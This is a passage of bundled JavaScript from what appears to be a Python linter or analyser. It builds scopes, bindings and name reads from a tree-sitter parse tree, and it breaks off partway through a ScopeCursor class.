/** The `globals` and `nonlocals` of a scope that declares none (shared, never written). */
const NO_NAMES = new Set();
/** The `loops` of a scope that has none (shared, never written). */
const NO_LOOPS = [];
/** `global x` / `nonlocal x`: declarations, never the target of a lookup. */
function isDeclaration(kind) {
    return kind === 'global' || kind === 'nonlocal';
}
/** Containers an identifier can sit in while still being the target of an assignment. */
const TARGET_CONTAINERS = new Set([
    'pattern_list',
    'tuple_pattern',
    'list_pattern',
    'tuple',
    'list',
    'parenthesized_expression',
    'list_splat_pattern',
    'expression_list',
    'as_pattern_target',
]);
const COMPREHENSIONS = new Set(['list_comprehension', 'set_comprehension', 'dictionary_comprehension', 'generator_expression']);
const IMPORT_ERROR = /\b(ImportError|ModuleNotFoundError)\b/;
/** `if TYPE_CHECKING:`, `if typing.TYPE_CHECKING:`, `if not TYPE_CHECKING:`. */
const IF_TYPE_CHECKING = /if[ \t]+(not[ \t]+)?(?:[\p{ID_Continue}]+[ \t]*\.[ \t]*)*TYPE_CHECKING[ \t]*:/uy;
/**
 * Ranges the walk enters in source order, kept on a stack: `at(index)` drops the ranges that end
 * before `index` (the walk never comes back to them) and tells whether `index` is in the innermost
 * one left. Works because the ranges of one stack are nested or disjoint and queried in order.
 */
class RangeStack {
    items = [];
    // The bounds again, as numbers: `at` runs for every name of the file, and reading them from
    // the items (object literals of several shapes) made its property loads megamorphic.
    starts = [];
    ends = [];
    push(item) {
        this.items.push(item);
        this.starts.push(item.start);
        this.ends.push(item.end);
    }
    at(index) {
        const ends = this.ends;
        let top = ends.length - 1;
        while (top >= 0 && ends[top] <= index)
            top--;
        if (top < ends.length - 1) {
            this.items.length = top + 1;
            this.starts.length = top + 1;
            ends.length = top + 1;
        }
        return top >= 0 && this.starts[top] <= index ? this.items[top] : undefined;
    }
}
/**
 * A binding as the analysis makes it: the identifier and the owner are kept as node ids and
 * their node objects made when asked for, so that a file's bindings do not keep two node
 * objects each alive until the file is done.
 */
class BindingRecord {
    name;
    kind;
    scope;
    tree;
    nodeId;
    ownerId;
    at;
    declared;
    typeCheckingOnly;
    guardedByImportError;
    implicit;
    reads = 0;
    import;
    constructor(name, kind, scope, tree, nodeId, ownerId, at, info, declared, typeCheckingOnly, guardedByImportError, implicit) {
        this.name = name;
        this.kind = kind;
        this.scope = scope;
        this.tree = tree;
        this.nodeId = nodeId;
        this.ownerId = ownerId;
        this.at = at;
        this.declared = declared;
        this.typeCheckingOnly = typeCheckingOnly;
        this.guardedByImportError = guardedByImportError;
        this.implicit = implicit;
        this.import = info;
    }
    get node() {
        return this.tree.node(this.nodeId);
    }
    get owner() {
        return this.tree.node(this.ownerId);
    }
}
exports.BindingRecord = BindingRecord;
/**
 * The reads of a file, one entry per read in parallel arrays (struct of arrays): a large file has
 * tens of thousands of reads and each lives until the file is done, so one object per read made
 * the garbage collector copy and promote them all (docs/performance.md). `Reference` objects are
 * made only when `ScopeModel.references` is read.
 */
class Reads {
    names = [];
    /** The identifier's (or string literal's) node id. */
    nodes = [];
    scopes = [];
    at = [];
    contexts = [];
    deferred = [];
    /** Filled when the reads are resolved (src/analysis/scopes.ts), in the same order. */
    bindings = [];
    add(name, node, scope, at, context, deferred) {
        this.names.push(name);
        this.nodes.push(node);
        this.scopes.push(scope);
        this.at.push(at);
        this.contexts.push(context);
        this.deferred.push(deferred);
    }
    objects(tree) {
        const out = [];
        for (let k = 0; k < this.names.length; k++) {
            const binding = this.bindings[k];
            let maybeStar = false;
            if (!binding)
                for (let s = this.scopes[k]; s && !maybeStar; s = s.parent)
                    maybeStar = s.starImports.length > 0;
            out.push({
                name: this.names[k],
                node: tree.node(this.nodes[k]),
                scope: this.scopes[k],
                at: this.at[k],
                context: this.contexts[k],
                deferred: this.deferred[k],
                binding,
                maybeStar,
            });
        }
        return out;
    }
}
exports.Reads = Reads;
const HANDLED_NAME = 1;
const HANDLED_STRING = 2;
class ScopeBuilder {
    context;
    text;
    stack = [];
    scopes = [];
    bindings = [];
    reads = new Reads();
    exports = [];
    targets = [];
    /** Annotations (pushed by their owners, in source order) and lazily evaluated type expressions. */
    annotations = new RangeStack();
    /** Places where a string may be a type outside annotations: `Optional["T"]`, `cast("T", x)`. */
    typeRegions = new RangeStack();
    /** Patterns of `case` clauses, whose names need the slow, parent-based classification. */
    patterns = new RangeStack();
    /**
     * By source index, what starts there and is already handled: HANDLED_NAME for an identifier
     * its construct has classified, HANDLED_STRING for a string that is part of a concatenation.
     * One byte per character outside the heap, not a Set of every bound name that the garbage
     * collector has to copy while the file is analysed.
     */
    handled;
    typeCheckingRanges = [];
    importGuardRanges = [];
    /** End of the last import statement: the names inside it are handled by the statement. */
    importEnd = -1;
    futureAnnotations = false;
    constructor(context) {
        this.context = context;
        this.text = context.text;
        this.handled = new Uint8Array(this.text.length + 1);
        // The root is `module`, or `ERROR` when the file is badly broken: either way, the module scope.
        const root = context.tree.rootNode;
        this.pushScope('module', root, undefined, [], root.type === 'module' ? (0, docstrings_1.docstringOf)(root) : undefined);
    }
    /** The walk's handlers; `done` receives what the walk found, in `end`. */
    visitor(done) {
        const exitScope = () => void this.stack.pop();
        const popTarget = (node) => {
            const top = this.targets[this.targets.length - 1];
            if (top && top.owner.id === node.id)
                this.targets.pop();
        };
        const visitor = {
            class_definition: (node) => this.enterClass(node),
            'class_definition:exit': exitScope,
            function_definition: (node) => this.enterFunction(node),
            'function_definition:exit': exitScope,
            lambda: (node) => this.enterLambda(node),
            'lambda:exit': exitScope,
            identifier: (node) => this.identifier(node),
            keyword_argument: (node) => void (this.handled[node.startIndex] |= HANDLED_NAME), // `name=` is not a read
            global_statement: (node) => this.declaration(node, 'global'),
            nonlocal_statement: (node) => this.declaration(node, 'nonlocal'),
            named_expression: (node) => this.namedExpression(node),
            case_clause: (node) => this.caseClause(node),
            import_statement: (node) => this.importStatement(node),
            import_from_statement: (node) => this.importFromStatement(node, 'from-import'),
            future_import_statement: (node) => this.importFromStatement(node, 'future-import'),
            assignment: (node) => this.assignment(node),
            'assignment:exit': popTarget,
            augmented_assignment: (node) => this.augmentedAssignment(node),
            'augmented_assignment:exit': popTarget,
            for_statement: (node) => this.forStatement(node),
            'for_statement:exit': popTarget,
            for_in_clause: (node) => this.pushTarget(node, node.childForFieldName('left'), 'for', node.endIndex),
            'for_in_clause:exit': popTarget,
            as_pattern: (node) => this.asPattern(node),
            'as_pattern:exit': popTarget,
            delete_statement: (node) => this.pushTarget(node, node.firstNamedChild, 'del', node.endIndex),
            'delete_statement:exit': popTarget,
            type_alias_statement: (node) => this.typeAlias(node),
            string: (node) => this.string(node),
            concatenated_string: (node) => this.string(node),
            call: (node) => this.call(node),
            subscript: (node) => this.subscript(node),
            if_statement: (node) => this.ifStatement(node),
            try_statement: (node) => this.tryStatement(node),
            while_statement: (node) => {
                const body = node.childForFieldName('body');
                if (body)
                    this.loop(node, node.childForFieldName('condition') ?? body, body);
            },
            end: () => done(this.finish()),
        };
        for (const type of COMPREHENSIONS) {
            visitor[type] = (node) => this.enterComprehension(node);
            visitor[`${type}:exit`] = exitScope;
        }
        return visitor;
    }
    // --- scopes ------------------------------------------------------------------------------
    /** The scope in which code at `index` runs: the innermost open scope, or its parent for its outer parts. */
    scopeAt(index) {
        const top = this.stack[this.stack.length - 1];
        for (const [start, end] of top.outer)
            if (start <= index && index < end)
                return top.parent;
        return top;
    }
    pushScope(kind, node, parent, outer, docstring) {
        const scope = {
            kind,
            node,
            parent,
            children: [],
            bindings: [],
            globals: NO_NAMES,
            nonlocals: NO_NAMES,
            usesLocals: false,
            starImports: [],
            loops: NO_LOOPS,
            docstring,
            byName: new Map(),
            outer,
        };
        parent?.children.push(scope);
        this.scopes.push(scope);
        this.stack.push(scope);
        return scope;
    }
    enterClass(node) {
        const parent = this.scopeAt(node.startIndex);
        const name = node.childForFieldName('name');
        if (name)
            this.bind(parent, name, 'class', node, node.endIndex);
        const outer = [];
        const bases = node.childForFieldName('superclasses');
        if (bases)
            outer.push([bases.startIndex, bases.endIndex]);
        const scope = this.pushScope('class', node, parent, outer, (0, docstrings_1.docstringOf)(node.childForFieldName('body')));
        this.typeParameters(node, scope);
    }
    enterFunction(node) {
        const parent = this.scopeAt(node.startIndex);
        const name = node.childForFieldName('name');
        if (name)
            this.bind(parent, name, 'function', node, node.endIndex);
        const outer = [];
        const frames = [];
        const names = this.parameters(node.childForFieldName('parameters'), outer, frames);
        const returns = node.childForFieldName('return_type');
        if (returns) {
            outer.push([returns.startIndex, returns.endIndex]);
            frames.push({ start: returns.startIndex, end: returns.endIndex, deferred: this.futureAnnotations });
        }
        // Innermost-first on the stack: the first annotation in source order ends up on top.
        for (let i = frames.length - 1; i >= 0; i--)
            this.annotations.push(frames[i]);
        const scope = this.pushScope('function', node, parent, outer, (0, docstrings_1.docstringOf)(node.childForFieldName('body')));
        this.typeParameters(node, scope);
        for (const [identifier, owner] of names)
            this.bind(scope, identifier, 'parameter', owner, identifier.startIndex);
    }
    enterLambda(node) {
        const parent = this.scopeAt(node.startIndex);
        const outer = [];
        const names = this.parameters(node.childForFieldName('parameters'), outer, []);
        const scope = this.pushScope('lambda', node, parent, outer);
        for (const [identifier, owner] of names)
            this.bind(scope, identifier, 'parameter', owner, identifier.startIndex);
    }
    /**
     * The names a parameter list binds (with the parameter node), and its parts that run where the
     * function is defined: default values and annotations (`outer`), annotations also as `frames`.
     */
    parameters(parameters, outer, frames) {
        const names = [];
        if (!parameters)
            return names;
        for (const parameter of parameters.namedChildren) {
            if (!parameter)
                continue;
            let name;
            switch (parameter.type) {
                case 'identifier':
                    name = parameter;
                    break;
                case 'default_parameter':
                case 'typed_default_parameter':
                    name = parameter.childForFieldName('name');
                    break;
                case 'typed_parameter':
                case 'list_splat_pattern':
                case 'dictionary_splat_pattern':
                    name = parameter.firstNamedChild;
                    if (name && (name.type === 'list_splat_pattern' || name.type === 'dictionary_splat_pattern'))
                        name = name.firstNamedChild;
                    break;
                default:
                    continue; // `*`, `/`, comments
            }
            if (name?.type === 'identifier')
                names.push([name, parameter]);
            const value = parameter.childForFieldName('value');
            if (value)
                outer.push([value.startIndex, value.endIndex]);
            const type = parameter.childForFieldName('type');
            if (type) {
                outer.push([type.startIndex, type.endIndex]);
                frames.push({ start: type.startIndex, end: type.endIndex, deferred: this.futureAnnotations });
            }
        }
        return names;
    }
    /** PEP 695 type parameters of a function or class bind in its scope; bounds are ordinary reads. */
    typeParameters(node, scope) {
        const list = node.childForFieldName('type_parameters');
        if (list)
            this.typeParameterNames(list, (identifier) => this.bind(scope, identifier, 'type-parameter', node, identifier.startIndex));
    }
    typeParameterNames(list, onName) {
        for (const type of list.namedChildren) {
            if (type?.type !== 'type')
                continue;
            let inner = type.firstNamedChild;
            if (inner?.type === 'constrained_type')
                inner = inner.firstNamedChild?.firstNamedChild ?? null;
            else if (inner?.type === 'splat_type')
                inner = inner.firstNamedChild;
            if (inner?.type === 'identifier')
                onName(inner);
        }
    }
    enterComprehension(node) {
        const parent = this.scopeAt(node.startIndex);
        // The first iterable is evaluated in the enclosing scope, before the comprehension starts.
        const outer = [];
        const clause = node.namedChildren.find((c) => c?.type === 'for_in_clause');
        const iterable = clause?.childForFieldName('right');
        if (iterable && clause) {
            // `right` may be several nodes (`for x in a, b`); take the span up to the end of the clause.
            outer.push([iterable.startIndex, clause.endIndex]);
        }
        this.pushScope('comprehension', node, parent, outer);
    }
    // --- bindings and references ----------------------------------------------------------------
    inRanges(ranges, index) {
        for (const [start, end] of ranges)
            if (start <= index && index < end)
                return true;
        return false;
    }
    bind(scope, node, kind, owner, at, extra = {}) {
        const name = extra.name ?? node.text;
        this.handled[node.startIndex] |= HANDLED_NAME;
        const declared = scope.kind === 'module' ? undefined : scope.globals.has(name) ? 'global' : scope.nonlocals.has(name) ? 'nonlocal' : undefined;
        const binding = new BindingRecord(name, kind, scope, this.context.tree, node.id, owner.id, at, extra.info, isDeclaration(kind) ? undefined : declared, this.inRanges(this.typeCheckingRanges, node.startIndex), this.inRanges(this.importGuardRanges, node.startIndex), extra.implicit ?? false);
        scope.bindings.push(binding);
        this.bindings.push(binding);
        if (!isDeclaration(kind)) {
            // `[binding]`, not `[]` and a push: a push gives the array room for 17, and most names
            // are bound once in their scope.
            const list = scope.byName.get(name);
            if (list)
                list.push(binding);
            else
                scope.byName.set(name, [binding]);
        }
        return binding;
    }
    read(node, context, scope = this.scopeAt(node.startIndex), name, deferred) {
        const at = node.startIndex;
        const frame = this.annotations.at(at);
        if (context === 'load' && frame)
            context = 'annotation';
        this.reads.add(name ?? (0, names_1.nameAt)(this.text, at) ?? node.text, node.id, scope, at, context, deferred ?? frame?.deferred ?? false);
    }
    /**
     * The token character before the name at `index`, skipping blanks: a `.` makes the name an
     * attribute (`obj.name`); on the same line the dot cannot belong to a number, a string or a
     * comment. Returns '' when the text alone cannot tell: the previous line ends with `.` or `\`
     * (a comment ending in a period, or a continued attribute chain), or has a `#` that may hide
     * one (`obj.  # comment` inside brackets).
     */
    charBefore(index) {
        const text = this.text;
        let i = index - 1;
        for (; i >= 0; i--) {
            const c = text[i];
            if (c === ' ' || c === '\t' || c === '\f')
                continue;
            if (c === '\n' || c === '\r')
                break;
            return c;
        }
        for (; i >= 0; i--) {
            const c = text[i];
            if (c !== ' ' && c !== '\t' && c !== '\f' && c !== '\n' && c !== '\r')
                break;
        }
        if (i < 0)
            return '\n'; // first name of the file
        const c = text[i];
        if (c === '.' || c === '\\')
            return '';
        for (let j = i - 1; j >= 0 && text[j] !== '\n' && text[j] !== '\r'; j--)
            if (text[j] === '#')
                return '';
        return c;
    }
    /**
     * Classifies a name. The fast path decides from the source text and from what the enclosing
     * constructs marked when the walk entered them (imports, parameters, `name=`, declarations,
     * targets); a name first on its line or inside a `case` pattern takes the slow path, which asks
     * the tree for its parent.
     */
    identifier(node) {
        const start = node.startIndex;
        if ((this.handled[start] & HANDLED_NAME) !== 0 || start < this.importEnd)
            return;
        const before = this.charBefore(start);
        if (before === '.')
            return; // `obj.name`, `from .name import`
        if (before === '' || this.patterns.at(start)) {
            this.identifierByParent(node);
            return;
        }
        if (!this.target(node, null))
            this.read(node, 'load');
    }
    /** The slow path of `identifier`: the parent node tells what the name is. */
    identifierByParent(node) {
        const parent = node.parent;
        if (!parent)
            return;
        const first = node.startIndex === parent.startIndex;
        switch (parent.type) {
            case 'attribute':
            case 'member_type':
                if (!first)
                    return; // `.name` on a continuation line
                break;
            case 'keyword_argument':
            case 'keyword_pattern':
                if (first)
                    return; // `name=`
                break;
            case 'dotted_name':
                this.dottedNamePart(node, parent, first);
                return;
            case 'splat_pattern':
                this.capture(node, parent);
                return;
            case 'as_pattern':
                // In `match`, `pattern as name` binds `name`; in `with`/`except` the alias is wrapped in
                // an `as_pattern_target`, and a bare identifier child is the value being read.
                if (!first) {
                    this.capture(node, parent);
                    return;
                }
                break;
        }
        if (!this.target(node, parent))
            this.read(node, 'load');
    }
    /** An identifier in a `dotted_name` outside imports: a `case` pattern. */
    dottedNamePart(node, dotted, first) {
        const owner = dotted.parent;
        if (!owner || !first)
            return;
        // `case a.b` and `case C(...)` read a value; a bare `case x` captures.
        if (dotted.namedChildCount > 1 || owner.type === 'class_pattern' || owner.type === 'dict_pattern') {
            this.read(node, 'load');
        }
        else {
            this.capture(node, owner);
        }
    }
    capture(node, owner) {
        if ((0, names_1.nameAt)(this.text, node.startIndex) === '_')
            return;
        this.bind(this.scopeAt(node.startIndex), node, 'match', owner, node.startIndex);
    }
    pushTarget(owner, root, kind, at, unbindAt) {
        if (!root)
            return;
        this.targets.push({ root, start: root.startIndex, end: root.endIndex, single: root.type === 'identifier', kind, owner, at, unbindAt });
    }
    /** Binds `node` when it is (inside) the target of the innermost assignment-like construct. */
    target(node, parent) {
        const target = this.targets[this.targets.length - 1];
        const start = node.startIndex;
        if (!target || start < target.start || start >= target.end)
            return false;
        if (!target.single) {
            // `a, (b, *c) = ...`: only names reached through tuples and lists are targets (not `x[i]`).
            let current = node;
            let up = parent ?? node.parent;
            while (current.id !== target.root.id && up && TARGET_CONTAINERS.has(up.type)) {
                current = up;
                up = up.parent;
            }
            if (current.id !== target.root.id)
                return false;
        }
        if (target.kind === 'annotation-only')
            return true; // `x: int` declares, binds nothing, reads nothing
        const scope = this.scopeAt(start);
        if (target.kind === 'augmented')
            this.read(node, 'augmented', scope);
        if (target.kind === 'del')
            this.read(node, 'del', scope);
        this.bind(scope, node, target.kind, target.owner, target.at);
        if (target.unbindAt !== undefined)
            this.bind(scope, node, 'del', target.owner, target.unbindAt, { implicit: true });
        return true;
    }
    declaration(node, kind) {
        const scope = this.scopeAt(node.startIndex);
        for (const name of node.namedChildren) {
            if (name?.type !== 'identifier')
                continue;
            this.handled[name.startIndex] |= HANDLED_NAME;
            if (scope.kind === 'module')
                continue; // a no-op at module level
            const declared = scope;
            const key = kind === 'global' ? 'globals' : 'nonlocals';
            // The set is made on the first declaration: most scopes have none.
            if (declared[key] === NO_NAMES)
                declared[key] = new Set();
            declared[key].add(name.text);
            this.bind(scope, name, kind, node, name.startIndex);
        }
    }
    namedExpression(node) {
        const name = node.childForFieldName('name');
        if (name?.type !== 'identifier')
            return;
        // `(x := ...)` binds in the nearest enclosing scope that is not a comprehension.
        let scope = this.scopeAt(node.startIndex);
        while (scope.kind === 'comprehension' && scope.parent)
            scope = scope.parent;
        this.bind(scope, name, 'walrus', node, node.endIndex);
    }
    caseClause(node) {
        const body = node.childForFieldName('consequence');
        this.patterns.push({ start: node.startIndex, end: body ? body.startIndex : node.endIndex });
    }
    assignment(node) {
        const left = node.childForFieldName('left');
        const right = node.childForFieldName('right');
        const type = node.childForFieldName('type');
        this.pushTarget(node, left, right ? 'assignment' : 'annotation-only', node.endIndex);
        if (type) {
            this.annotations.push({ start: type.startIndex, end: type.endIndex, deferred: this.futureAnnotations });
            // `X: TypeAlias = "Node | None"`: the value is a type expression.
            if (right && (0, annotations_1.isTypeAliasAnnotation)(type.text))
                this.typeRegions.push({ start: right.startIndex, end: right.endIndex });
        }
        if (right && /__all__[ \t]*[:=]/y.test(this.text.slice(node.startIndex, node.startIndex + 12))) {
            if (left?.type === 'identifier' && left.text === '__all__')
                this.exportsFrom(node, right);
        }
    }
    augmentedAssignment(node) {
        const left = node.childForFieldName('left');
        this.pushTarget(node, left, 'augmented', node.endIndex);
        if (/__all__[ \t]*\+=/y.test(this.text.slice(node.startIndex, node.startIndex + 12))) {
            const right = node.childForFieldName('right');
            if (left?.type === 'identifier' && left.text === '__all__' && right)
                this.exportsFrom(node, right);
        }
    }
    asPattern(node) {
        const alias = node.childForFieldName('alias');
        if (alias?.type !== 'as_pattern_target')
            return; // `case ... as name` is handled as a pattern
        const owner = node.parent;
        if (owner?.type === 'with_item')
            this.pushTarget(node, alias, 'with', owner.endIndex);
        else if (owner?.type === 'except_clause')
            this.pushTarget(node, alias, 'except', node.endIndex, owner.endIndex);
    }
    typeAlias(node) {
        const left = node.childForFieldName('left');
        const right = node.childForFieldName('right');
        const scope = this.scopeAt(node.startIndex);
        // `type X = ...` / `type X[T] = ...`: binds X; the parameters belong to the alias alone.
        const inner = left?.firstNamedChild;
        const name = inner?.type === 'identifier' ? inner : inner?.type === 'generic_type' ? inner.firstNamedChild : null;
        if (name?.type === 'identifier')
            this.bind(scope, name, 'type-alias', node, node.endIndex);
        if (inner?.type === 'generic_type') {
            for (const list of inner.namedChildren) {
                if (list?.type === 'type_parameter')
                    this.typeParameterNames(list, (identifier) => void (this.handled[identifier.startIndex] |= HANDLED_NAME));
            }
        }
        // The value is evaluated lazily, when the alias is used.
        if (right)
            this.annotations.push({ start: right.startIndex, end: right.endIndex, deferred: true });
    }
    // --- imports ---------------------------------------------------------------------------------
    importStatement(node) {
        this.importEnd = node.endIndex;
        const scope = this.scopeAt(node.startIndex);
        for (const item of node.childrenForFieldName('name')) {
            if (!item)
                continue;
            const dotted = item.type === 'aliased_import' ? item.childForFieldName('name') : item;
            const alias = item.type === 'aliased_import' ? item.childForFieldName('alias') : null;
            if (!dotted || dotted.type !== 'dotted_name')
                continue;
            const parts = dotted.namedChildren.filter((c) => c?.type === 'identifier');
            if (parts.length === 0)
                continue;
            const module = parts.map((p) => p.text).join('.');
            const info = {
                module,
                qualifiedName: module,
                alias: alias?.text,
                nameNode: dotted,
                aliasNode: alias ?? undefined,
                explicitReExport: alias !== null && alias.text === module,
                submodule: alias === null && parts.length > 1,
                statement: node,
            };
            this.bind(scope, alias ?? parts[0], 'import', node, node.endIndex, { info });
        }
    }
    importFromStatement(node, kind) {
        this.importEnd = node.endIndex;
        const scope = this.scopeAt(node.startIndex);
        const moduleNode = node.childForFieldName('module_name');
        const module = kind === 'future-import' ? '__future__' : moduleNode ? moduleNode.text.replace(/\s+/g, '') : '';
        for (const child of node.namedChildren) {
            if (child?.type === 'wildcard_import')
                scope.starImports.push(node);
        }
        for (const item of node.childrenForFieldName('name')) {
            if (!item)
                continue;
            const dotted = item.type === 'aliased_import' ? item.childForFieldName('name') : item;
            const alias = item.type === 'aliased_import' ? item.childForFieldName('alias') : null;
            if (!dotted)
                continue;
            const member = dotted.text;
            const named = alias ?? dotted.firstNamedChild ?? dotted;
            const info = {
                module,
                member,
                qualifiedName: module.endsWith('.') ? module + member : `${module}.${member}`,
                alias: alias?.text,
                nameNode: dotted,
                aliasNode: alias ?? undefined,
                explicitReExport: alias !== null && alias.text === member,
                submodule: false,
                statement: node,
            };
            if (kind === 'future-import' && member === 'annotations')
                this.futureAnnotations = true;
            this.bind(scope, named, kind, node, node.endIndex, { info });
        }
    }
    // --- strings used as types -----------------------------------------------------------------
    string(node) {
        const start = node.startIndex;
        if ((this.handled[start] & HANDLED_STRING) !== 0)
            return;
        // Only strings in an annotation or in a typing construct can be types; skip the rest cheaply.
        if (!this.annotations.at(start) && !this.typeRegions.at(start))
            return;
        if (node.type === 'concatenated_string') {
            for (const part of node.namedChildren)
                if (part)
                    this.handled[part.startIndex] |= HANDLED_STRING;
        }
        if (!(0, annotations_1.isTypeString)(node))
            return;
        const value = (0, annotations_1.typeStringValue)(node);
        if (value === undefined)
            return;
        const names = (0, annotations_1.forwardReferenceNames)(value, this.context.tree.language, 0);
        if (!names)
            return;
        const scope = this.scopeAt(start);
        for (const name of new Set(names))
            this.read(node, 'string-annotation', scope, name, true);
    }
    subscript(node) {
        const chain = (0, names_1.chainAt)(this.text, node.startIndex, '[');
        if (chain && (chain.last === 'Annotated' || annotations_1.TYPE_FORMS.has(chain.last))) {
            this.typeRegions.push({ start: node.startIndex, end: node.endIndex });
        }
    }
    // --- calls, __all__, control flow -----------------------------------------------------------
    call(node) {
        const chain = (0, names_1.chainAt)(this.text, node.startIndex, '(');
        if (!chain)
            return;
        if (!chain.dotted && (chain.last === 'locals' || chain.last === 'vars')) {
            // `locals()` / `vars()` without arguments expose every name of the scope.
            const args = node.childForFieldName('arguments');
            if (node.childForFieldName('function')?.type === 'identifier' && args?.namedChildCount === 0) {
                this.scopeAt(node.startIndex).usesLocals = true;
            }
            return;
        }
        if (annotations_1.TYPE_CALLS.has(chain.last)) {
            this.typeRegions.push({ start: node.startIndex, end: node.endIndex });
            return;
        }
        if (chain.dotted && (chain.last === 'extend' || chain.last === 'append') && this.text.startsWith('__all__', node.startIndex)) {
            const callee = node.childForFieldName('function');
            const object = callee?.childForFieldName('object');
            const args = node.childForFieldName('arguments');
            if (object?.type === 'identifier' && object.text === '__all__' && args) {
                for (const arg of args.namedChildren)
                    if (arg)
                        this.exportsFrom(node, arg);
            }
        }
    }
    /** Records the string items of an `__all__` value at module level. */
    exportsFrom(statement, value) {
        const scope = this.scopeAt(statement.startIndex);
        if (scope.kind !== 'module')
            return;
        const visit = (node) => {
            switch (node.type) {
                case 'string':
                case 'concatenated_string': {
                    const name = (0, literals_1.stringLiteralValue)(node, { allowFStrings: false });
                    if (name !== undefined) {
                        this.exports.push({ name, node });
                        this.read(node, 'export', scope, name, true);
                    }
                    return;
                }
                case 'list':
                case 'tuple':
                case 'expression_list': // `__all__ = 'a', 'b'`
                case 'parenthesized_expression':
                case 'binary_operator':
                case 'argument_list':
                    for (const child of node.namedChildren)
                        if (child)
                            visit(child);
                    return;
                case 'call': {
                    const callee = node.childForFieldName('function');
                    const args = node.childForFieldName('arguments');
                    if (callee?.type === 'identifier' && (callee.text === 'list' || callee.text === 'tuple') && args)
                        visit(args);
                    return;
                }
            }
        };
        visit(value);
    }
    ifStatement(node) {
        IF_TYPE_CHECKING.lastIndex = node.startIndex;
        const match = IF_TYPE_CHECKING.exec(this.text);
        if (!match)
            return;
        if (!match[1]) {
            const body = node.childForFieldName('consequence');
            if (body)
                this.typeCheckingRanges.push([body.startIndex, body.endIndex]);
        }
        else {
            for (const branch of node.childrenForFieldName('alternative')) {
                if (branch?.type === 'else_clause')
                    this.typeCheckingRanges.push([branch.startIndex, branch.endIndex]);
            }
        }
    }
    forStatement(node) {
        this.pushTarget(node, node.childForFieldName('left'), 'for', node.childForFieldName('right')?.endIndex ?? node.startIndex);
        const body = node.childForFieldName('body');
        if (body)
            this.loop(node, body, body);
    }
    /** Records a loop of the scope the statement is in: its code from `first` to the end of `body` can run again. */
    loop(statement, first, body) {
        const scope = this.scopeAt(statement.startIndex);
        const loops = scope.loops === NO_LOOPS ? (scope.loops = []) : scope.loops;
        loops.push([first.startIndex, body.endIndex]);
    }
    tryStatement(node) {
        const body = node.childForFieldName('body');
        if (!body)
            return;
        const catches = node.namedChildren.some((clause) => {
            if (clause?.type !== 'except_clause')
                return false;
            const caught = clause.namedChildren.find((c) => c && c.type !== 'block' && c.type !== 'comment');
            const types = caught?.type === 'as_pattern' ? caught.firstNamedChild : caught;
            return types ? IMPORT_ERROR.test(types.text) : false;
        });
        if (catches)
            this.importGuardRanges.push([body.startIndex, body.endIndex]);
    }
    // --- the end -----------------------------------------------------------------------------------
    /** The scopes, bindings and reads found; each scope's bindings by name sorted by when they take effect. */
    finish() {
        for (const scope of this.scopes) {
            for (const list of scope.byName.values())
                if (list.length > 1)
                    list.sort((a, b) => a.at - b.at);
        }
        return { scopes: this.scopes, bindings: this.bindings, reads: this.reads, exports: this.exports, futureAnnotations: this.futureAnnotations };
    }
}
exports.ScopeBuilder = ScopeBuilder;


/***/ }),

/***/ 7985:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.scopes = exports.ScopeCursor = void 0;
exports.bindingsOf = bindingsOf;
exports.bindingIn = bindingIn;
exports.lookup = lookup;
exports.rebindingGroup = rebindingGroup;
exports.isGroupUsed = isGroupUsed;
exports.scopeAt = scopeAt;
exports.sharesLoop = sharesLoop;
const scope_builder_1 = __nccwpck_require__(1500);
// ---------------------------------------------------------------------------------------------
// Queries
// ---------------------------------------------------------------------------------------------
const DECLARATIONS = new Set(['global', 'nonlocal']);
/** Bindings of `name` in `scope`, ordered by when they take effect (declarations excluded). */
function bindingsOf(scope, name) {
    return scope.byName.get(name) ?? [];
}
/** The binding of `name` in `scope` that a read at `at` sees, or the last one when `at` is omitted. */
function bindingIn(scope, name, at) {
    const list = scope.byName.get(name);
    if (!list)
        return undefined;
    if (at === undefined)
        return list[list.length - 1];
    let found;
    for (const binding of list) {
        if (binding.at > at)
            break;
        found = binding;
    }
    return found;
}
/**
 * Resolves `name` as read in `scope` at source index `at` (see the module comment). `deferred`
 * reads, and `at` omitted, see each scope's last binding. Returns undefined for names with no
 * binding (builtins, undefined names, deleted names).
 */
function lookup(scope, name, at, deferred = false) {
    let crossed = deferred || at === undefined;
    for (let s = scope, first = true; s; s = s.parent, first = false) {
        if (!first && s.kind === 'class')
            continue;
        if (s.kind !== 'module' && s.globals.has(name)) {
            let module = s;
            while (module.parent)
                module = module.parent;
            const binding = bindingIn(module, name);
            return binding && binding.kind !== 'del' ? binding : undefined;
        }
        if (!s.nonlocals.has(name)) {
            const final = crossed || s.kind === 'comprehension';
            const binding = bindingIn(s, name, final ? undefined : at);
            if (binding)
                return binding.kind === 'del' ? undefined : binding;
        }
        if (s.kind === 'function' || s.kind === 'lambda')
            crossed = true;
    }
    return undefined;
}
/**
 * The rebinding group of a binding: the bindings of its name in its scope between the `del`
 * statements around it (a `del` closes the group it belongs to).
 */
function rebindingGroup(binding) {
    if (DECLARATIONS.has(binding.kind))
        return [binding];
    const list = bindingsOf(binding.scope, binding.name);
    const index = list.indexOf(binding);
    let start = index;
    while (start > 0 && list[start - 1].kind !== 'del')
        start--;
    let end = index;
    while (end < list.length - 1 && list[end].kind !== 'del')
        end++;
    return list.slice(start, end + 1);
}
/** True when some read reaches the binding's rebinding group, or its scope calls `locals()`. */
function isGroupUsed(binding) {
    if (binding.scope.usesLocals)
        return true;
    return rebindingGroup(binding).some((member) => member.reads > 0);
}
/** The innermost scope in which code at source index `index` is evaluated. */
function scopeAt(model, index) {
    let scope = model.module;
    for (;;) {
        // A child's outer parts (defaults, annotations, bases) run in `scope`; a scope nested in them
        // (a lambda as a default value) is a child of `scope` too, so keep looking among the siblings.
        const child = scope.children.find((c) => c.node.startIndex <= index && index < c.node.endIndex && !c.outer.some(([s, e]) => s <= index && index < e));
        if (!child)
            return scope;
        scope = child;
    }
}
/**
 * The scopes of nodes taken in source order, in constant time amortised: the cursor keeps the
 * scopes open around the last node it was asked about, as the walk does. For code that goes over
 * many nodes after the walk (every call of a file, say), where `scopeAt` would search the scope
 * tree for each.
 */
class ScopeCursor {
    model;
    open;
    next = 1;
    constructor(model) {
        this.model = model;
        this.open = [model.module];
    }
    /**
     * The innermost scope in which the code of `node` runs (for a definition, a lambda or a
     * comprehension: the scope around it). Nodes must come in pre-order: each node's id at least
     * the previous one's.
     */
    at(node) {
        const id = node.id;
        const end = node.tree.end;
